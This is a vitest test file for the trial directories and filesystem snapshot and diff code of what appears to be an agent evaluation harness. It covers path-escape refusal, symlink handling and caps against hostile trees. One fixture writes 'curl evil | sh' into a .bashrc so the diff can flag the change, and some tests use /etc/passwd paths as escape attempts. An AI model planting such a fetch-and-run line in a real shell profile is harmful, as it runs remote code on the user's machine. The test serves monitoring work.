import { execFileSync } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readFile, rm, stat, symlink, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { hiddenBy } from '../src/evidence/types.js';
import {
  coarsen,
  diffSnapshots,
  resolveCasePath,
  snapshot,
  snapshotDetailed,
} from '../src/world/snapshot.js';
import {
  createTrialDirs,
  insidePath,
  installNodeShim,
  removeTrialDirs,
  type TrialDirs,
  writeWorld,
} from '../src/world/trial-dirs.js';

let base: string;
let dirs: TrialDirs;

beforeEach(async () => {
  base = await mkdtemp(join(tmpdir(), 'hr-world-'));
  dirs = await createTrialDirs(join(base, 'trials'), 'case-a.s0/x');
});
afterEach(async () => {
  await removeTrialDirs(dirs);
  await rm(base, { recursive: true, force: true });
});

describe('trial dirs', () => {
  it('creates a private root with four folders', async () => {
    expect(dirs.root.startsWith(join(base, 'trials', 'case-a.s0_x-'))).toBe(true);
    expect((await stat(dirs.root)).mode & 0o777).toBe(0o700);
    for (const dir of [dirs.workspace, dirs.home, dirs.tmp, dirs.bin]) {
      expect((await stat(dir)).isDirectory()).toBe(true);
      expect((await stat(dir)).mode & 0o077).toBe(0);
    }
    const other = await createTrialDirs(join(base, 'trials'), 'case-a.s0/x');
    expect(other.root).not.toBe(dirs.root);
    await removeTrialDirs(other);
  });

  it('writes workspace and home files, refusing escapes', async () => {
    await writeWorld(
      dirs,
      { 'README.md': 'hi', 'docs/a/b.txt': 'deep' },
      { '.bashrc': 'x', '~/.config/c': 'y' },
    );
    expect(await readFile(join(dirs.workspace, 'docs/a/b.txt'), 'utf8')).toBe('deep');
    expect(await readFile(join(dirs.home, '.config/c'), 'utf8')).toBe('y');
    await expect(writeWorld(dirs, { '../escape': 'x' }, {})).rejects.toThrow('../escape');
    await expect(writeWorld(dirs, { '/etc/passwd': 'x' }, {})).rejects.toThrow('/etc/passwd');
    expect(() => insidePath(dirs.home, 'a/../../b')).toThrow();
  });

  it('installs an executable svc shim with the given paths, quoted', async () => {
    const script = join(base, "it's svc.mjs");
    await writeFile(script, "console.log('args', JSON.stringify(process.argv.slice(2)))");
    const shim = await installNodeShim(dirs.bin, 'svc', script, process.execPath);
    expect((await stat(shim)).mode & 0o111).toBe(0o111);
    const out = execFileSync(shim, ['mail', 'send', '--body', 'a b'], { encoding: 'utf8' });
    expect(out.trim()).toBe('args ["mail","send","--body","a b"]');
  });

  it('removes a root even when the harness left read-only folders', async () => {
    await mkdir(join(dirs.workspace, 'locked/inner'), { recursive: true });
    await writeFile(join(dirs.workspace, 'locked/inner/f'), 'x');
    await chmod(join(dirs.workspace, 'locked/inner'), 0o500);
    await chmod(join(dirs.workspace, 'locked'), 0o500);
    await removeTrialDirs(dirs);
    await expect(stat(dirs.root)).rejects.toThrow();
  });
});

describe('snapshot and diff', () => {
  it('records added, modified, deleted, binary files and symlinks', async () => {
    await writeWorld(
      dirs,
      { 'a.txt': 'one', 'keep.txt': 'same', 'gone.txt': 'bye' },
      { '.bashrc': 'export A=1\n' },
    );
    await symlink('/etc/hostname', join(dirs.workspace, 'link'));
    const before = await snapshot(dirs);
    expect(Object.keys(before)).toEqual([
      'home/.bashrc',
      'ws/a.txt',
      'ws/gone.txt',
      'ws/keep.txt',
      'ws/link',
    ]);
    expect(before['ws/link']).toMatchObject({ text: '/etc/hostname', size: '/etc/hostname'.length });
    expect(before['ws/a.txt']).toMatchObject({ text: 'one', size: 3 });

    await writeFile(join(dirs.workspace, 'a.txt'), 'two');
    await unlink(join(dirs.workspace, 'gone.txt'));
    await writeFile(join(dirs.workspace, 'bin.dat'), Buffer.from([0, 1, 2, 255]));
    await writeFile(join(dirs.workspace, 'latin1.txt'), Buffer.from([0x63, 0x61, 0x66, 0xe9]));
    await writeFile(join(dirs.tmp, 'out.log'), 'log');
    await unlink(join(dirs.workspace, 'link'));
    await symlink('/etc/passwd', join(dirs.workspace, 'link'));
    await writeFile(join(dirs.home, '.bashrc'), 'export A=1\ncurl evil | sh\n', { flag: 'w' });
    const after = await snapshot(dirs);

    expect(after['ws/bin.dat']).toEqual({ hash: expect.stringMatching(/^[0-9a-f]{64}$/), size: 4 });
    expect(after['ws/latin1.txt'].text).toBeUndefined();
    expect(after['home/.bashrc'].text).toContain('curl evil');
    expect(diffSnapshots(before, after)).toEqual({
      added: ['tmp/out.log', 'ws/bin.dat', 'ws/latin1.txt'],
      modified: ['home/.bashrc', 'ws/a.txt', 'ws/link'],
      deleted: ['ws/gone.txt'],
    });
  });

  it('tells a symlink from a file holding its target text', async () => {
    await writeFile(join(dirs.workspace, 'x'), '/etc/passwd');
    const before = await snapshot(dirs);
    await unlink(join(dirs.workspace, 'x'));
    await symlink('/etc/passwd', join(dirs.workspace, 'x'));
    expect(diffSnapshots(before, await snapshot(dirs)).modified).toEqual(['ws/x']);
  });

  it('does not follow symlinked folders', async () => {
    await mkdir(join(base, 'outside'));
    await writeFile(join(base, 'outside', 'secret'), 's');
    await symlink(join(base, 'outside'), join(dirs.home, 'out'));
    const snap = await snapshot(dirs);
    expect(Object.keys(snap)).toEqual(['home/out']);
    expect(snap['home/out'].text).toBe(join(base, 'outside'));
  });

  it('keeps text only up to the text limit but hashes everything', async () => {
    await writeWorld(dirs, { small: 'abc', big: 'x'.repeat(100) }, {});
    const snap = await snapshot(dirs, { maxText: 50 });
    expect(snap['ws/small'].text).toBe('abc');
    expect(snap['ws/big']).toEqual({ hash: expect.any(String), size: 100 });
    const full = await snapshot(dirs);
    expect(full['ws/big'].hash).toBe(snap['ws/big'].hash);
  });

  it('caps the file count, dropping bulky and deep folders first', async () => {
    const files: Record<string, string> = { 'top.md': 't', 'src/deep/x.ts': 'x', 'package.json': '{}' };
    for (let i = 0; i < 20; i++) files[`node_modules/pkg${i}/index.js`] = String(i);
    await writeWorld(dirs, files, { '.profile': 'p' });
    const { files: snap, truncated } = await snapshotDetailed(dirs, { maxFiles: 6 });
    expect(truncated).toBe(true);
    expect(Object.keys(snap)).toEqual([
      'home/.profile',
      'ws/node_modules/pkg0/index.js',
      'ws/node_modules/pkg1/index.js',
      'ws/package.json',
      'ws/src/deep/x.ts',
      'ws/top.md',
    ]);
    expect((await snapshotDetailed(dirs)).truncated).toBe(false);
  });

  it('records unreadable files without failing', async () => {
    await writeWorld(dirs, { locked: 'x' }, {});
    await chmod(join(dirs.workspace, 'locked'), 0);
    const snap = await snapshot(dirs);
    expect(Object.keys(snap)).toEqual(['ws/locked']);
    await chmod(join(dirs.workspace, 'locked'), 0o600);
  });

  it('diffs empty snapshots and ignores unchanged files', () => {
    const s = { 'ws/a': { hash: 'h', size: 1 } };
    expect(diffSnapshots({}, {})).toEqual({ added: [], modified: [], deleted: [] });
    expect(diffSnapshots(s, { 'ws/a': { hash: 'h', size: 1 } })).toEqual({
      added: [],
      modified: [],
      deleted: [],
    });
  });
});

describe('resolveCasePath', () => {
  const view = { workspace: '/home/agent/work', home: '/home/agent', tmp: '/tmp/trial' };
  it.each([
    ['README.md', 'ws/README.md'],
    ['./docs/a.md', 'ws/docs/a.md'],
    ['docs/../b.md', 'ws/b.md'],
    ['.', 'ws'],
    ['../outside', null],
    ['~/.bashrc', 'home/.bashrc'],
    ['~', 'home'],
    ['~/.ssh/', 'home/.ssh'],
    ['$HOME/.npmrc', 'home/.npmrc'],
    ['$TMP/out.log', 'tmp/out.log'],
    ['$TMPDIR/x', 'tmp/x'],
    ['~other/.bashrc', null],
    ['/home/agent/work/src/x.ts', 'ws/src/x.ts'],
    ['/home/agent/work', 'ws'],
    ['/home/agent/.config/h/settings.json', 'home/.config/h/settings.json'],
    ['/home/agent/workspace2/x', 'home/workspace2/x'],
    ['/tmp/trial/a', 'tmp/a'],
    ['/tmp/trial/../etc/passwd', null],
    ['/etc/passwd', null],
    ['/tmp/other', null],
  ])('%s → %s', (path, key) => {
    expect(resolveCasePath(path, view)).toBe(key);
  });

  it('maps host paths with a host view', () => {
    expect(resolveCasePath(join(dirs.home, '.bashrc'), dirs)).toBe('home/.bashrc');
    expect(resolveCasePath(`${dirs.workspace}/`, dirs)).toBe('ws');
  });
});

// The caps a hostile tree meets (issue 33: 300,000 folders took 133 s, 40 sparse 511 MiB files 39 s):
// each table row builds a small tree, snapshots it with small caps, and says what the cap must record.
describe('snapshot caps', () => {
  const MiB = 1024 * 1024;
  const tree = async (spec: { dirs?: number; nested?: number; files?: number; sparse?: number[] }) => {
    for (let i = 0; i < (spec.dirs ?? 0); i++)
      await mkdir(join(dirs.workspace, 'flood', `d${i}`), { recursive: true });
    let deep = join(dirs.home, 'deep');
    for (let i = 0; i < (spec.nested ?? 0); i++) deep = join(deep, `n${i}`);
    if (spec.nested) await mkdir(deep, { recursive: true });
    for (let i = 0; i < (spec.files ?? 0); i++) await writeFile(join(dirs.tmp, `f${i}`), String(i));
    for (const [i, mib] of (spec.sparse ?? []).entries()) {
      // A hole of `mib` MiB: no block written, the size the harness's truncate gave it.
      execFileSync('truncate', ['-s', `${mib}M`, join(dirs.workspace, `sparse${i}.img`)]);
    }
    await writeFile(join(dirs.workspace, 'top.md'), 'top');
  };
  it.each([
    {
      name: '300 sibling folders under a folder cap of 20',
      spec: { dirs: 300 },
      opts: { maxDirs: 20 },
      limit: /^snapshot folder limit \(20 folders\) reached/,
      hidden: ['ws/flood/d299/x', 'ws/flood/x'],
      seen: ['ws/top.md'],
    },
    {
      name: 'a chain 200 folders deep under a folder cap of 20',
      spec: { nested: 200 },
      opts: { maxDirs: 20 },
      limit: /^snapshot folder limit \(20 folders\) reached/,
      hidden: ['home/deep/n0/n1/n2/n3/n4/n5/n6/n7/n8/n9/n10/n11/n12/n13/n14/n15/n16/n17/n18/n19/n20/x'],
      seen: ['ws/top.md', 'tmp/x'],
    },
    {
      name: '500 files in one folder under a file cap of 50',
      spec: { files: 500 },
      opts: { maxFiles: 50 },
      limit: /^snapshot file limit \(50 files\) reached/,
      hidden: ['tmp/f499', 'tmp/zzz'],
      seen: ['ws/nope'],
    },
  ])('$name: stops at the cap and names what it did not see', async ({ spec, opts, limit, hidden, seen }) => {
    await tree(spec);
    const r = await snapshotDetailed(dirs, opts);
    expect(r.truncated).toBe(true);
    expect(
      r.cap?.limits.some((l) => limit.test(l)),
      JSON.stringify(r.cap),
    ).toBe(true);
    expect(r.cap!.unlisted.length).toBeLessThanOrEqual(64);
    for (const k of hidden) expect(hiddenBy(r.cap, k), k).toBe(true);
    for (const k of seen) expect(hiddenBy(r.cap, k), k).toBe(false);
    // The walk stopped at the cap: it listed no more than it may.
    expect(Object.keys(r.files).length).toBeLessThanOrEqual(opts.maxFiles ?? 20_000);
  });

  it.each([
    {
      name: 'sparse files larger than the per-file cap are hashed in part',
      sparse: [8, 8],
      opts: { maxFileBytes: MiB },
      partial: [MiB, MiB],
    },
    {
      name: 'the total cap shares out what is left, in listing order',
      sparse: [1, 1, 1],
      opts: { maxFileBytes: MiB, maxBytes: 1.5 * MiB },
      partial: [undefined, 0.5 * MiB, 0],
    },
  ])('$name', async ({ sparse, opts, partial }) => {
    await tree({ sparse });
    const r = await snapshotDetailed(dirs, opts);
    expect(sparse.map((_, i) => r.files[`ws/sparse${i}.img`]!.partial)).toEqual(partial);
    expect(sparse.map((_mib, i) => r.files[`ws/sparse${i}.img`]!.size)).toEqual(sparse.map((m) => m * MiB));
    expect(r.cap?.limits.join()).toMatch(/snapshot hash limit/);
    // Not truncated: every file is listed; only content is unseen.
    expect(r.truncated).toBe(false);
    expect(r.cap?.unlisted).toEqual([]);
    // The same tree gives the same hashes (budgets are shared out before the reads run side by side).
    expect((await snapshotDetailed(dirs, opts)).files).toEqual(r.files);
  });

  it('an uncapped tree records no cap', async () => {
    await tree({ dirs: 5, files: 5 });
    expect((await snapshotDetailed(dirs)).cap).toBeUndefined();
  });

  it.each([
    ['hidden by the before cap: not added', { before: ['ws/d'] }, { 'ws/d/x': 'h' }, {}, { added: [] }],
    ['hidden by the after cap: not deleted', { after: ['ws/d'] }, {}, { 'ws/d/x': 'h' }, { deleted: [] }],
    ['outside the cap: added as before', { before: ['ws/d'] }, { 'ws/e': 'h' }, {}, { added: ['ws/e'] }],
  ] as const)('diff with caps, %s', (_n, unlisted, after, before, want) => {
    const state = (h: string) => ({ hash: h, size: 1 });
    const snap = (o: Record<string, string>) =>
      Object.fromEntries(Object.entries(o).map(([k, h]) => [k, state(h)]));
    const cap = (u?: readonly string[]) => (u ? { limits: ['x'], unlisted: [...u] } : undefined);
    const caps = {
      before: cap((unlisted as { before?: string[] }).before),
      after: cap((unlisted as { after?: string[] }).after),
    };
    expect(diffSnapshots(snap(before), snap(after), caps)).toMatchObject(want);
  });

  it.each([
    [
      'same first bytes, same size: not modified (unseen)',
      { hash: 'a', size: 9, partial: 4 },
      { hash: 'a', size: 9, partial: 4 },
      [],
    ],
    [
      'first bytes differ: modified',
      { hash: 'a', size: 9, partial: 4 },
      { hash: 'b', size: 9, partial: 4 },
      ['ws/f'],
    ],
    [
      'hashed over different lengths, same size: unseen',
      { hash: 'a', size: 9, partial: 4 },
      { hash: 'b', size: 9, partial: 2 },
      [],
    ],
    ['size changed: modified', { hash: 'a', size: 9, partial: 4 }, { hash: 'b', size: 10 }, ['ws/f']],
  ])('diff of files hashed in part: %s', (_n, b, a, modified) => {
    expect(diffSnapshots({ 'ws/f': b }, { 'ws/f': a }).modified).toEqual(modified);
  });

  it.each([
    [['ws/a/b', 'ws/a/c', 'home/x'], 2, ['home', 'ws/a']],
    [['ws/a/b/c', 'ws/a'], 5, ['ws/a']],
    [['ws/a', 'ws/b', 'tmp/c', 'home/d'], 2, ['home', 'tmp', 'ws']],
  ])('coarsen %j to at most %i', (keys, max, want) => {
    expect(coarsen(keys, max)).toEqual(want);
  });
});
